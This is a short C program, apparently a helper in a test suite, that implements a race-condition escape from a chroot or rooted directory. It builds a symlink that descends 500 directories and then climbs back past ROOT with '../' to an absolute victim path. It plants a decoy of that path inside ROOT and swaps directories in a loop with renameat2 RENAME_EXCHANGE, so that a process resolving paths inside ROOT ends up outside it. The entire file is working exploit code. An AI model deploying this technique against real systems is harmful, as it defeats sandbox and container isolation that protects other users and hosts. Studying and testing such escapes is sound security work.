/*
 * climb DIRECTORY ROOT VICTIM: in DIRECTORY/ROOT makes a link `way` that goes far down and farther up,
 * and exchanges the directory on its way with one in DIRECTORY, again and again.  Whoever has made ROOT its
 * root, and is down there at that moment, comes up beside it: at VICTIM, an absolute path.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "deadline.h"

#define EXCHANGE 2u
#define DEPTH 500
#define ABOVE 40

static char text[4096];

/* The same path below ROOT: what is found when nothing is won. */
static int make_decoy(const char *victim)
{
    char path[2048];
    snprintf(path, sizeof(path), "%s/", victim + 1);
    for (char *slash = strchr(path, '/'); slash != NULL; slash = strchr(slash + 1, '/')) {
        *slash = '\0';
        mkdir(path, 0777);
        *slash = '/';
    }
    return access(path, F_OK);
}

static int make_deep(const char *name)
{
    int before = open(".", O_RDONLY | O_DIRECTORY);
    if (before < 0 || mkdir(name, 0777) < 0 || chdir(name) < 0)
        return -1;
    for (int i = 0; i < DEPTH; i++) {
        if (mkdir("n", 0777) < 0 || chdir("n") < 0)
            return -1;
    }
    return fchdir(before);
}

int main(int argc, char **argv)
{
    char inside[512];
    if (argc != 4 || chdir(argv[1]) < 0 || chdir(argv[2]) < 0 || make_decoy(argv[3]) < 0)
        return 2;
    strcat(text, "d/");
    for (int i = 0; i < DEPTH; i++)
        strcat(text, "n/");
    for (int i = 0; i < DEPTH + ABOVE; i++)
        strcat(text, "../");
    strcat(text, argv[3] + 1);
    if (symlink(text, "way") < 0 || make_deep("d") < 0 || chdir(argv[1]) < 0 || make_deep("e") < 0)
        return 1;
    snprintf(inside, sizeof(inside), "%s/d", argv[2]);
    puts("swapping");
    fflush(stdout);
    while (!is_over() && syscall(SYS_renameat2, AT_FDCWD, inside, AT_FDCWD, "e", EXCHANGE) == 0)
        ;
    return 1;
}
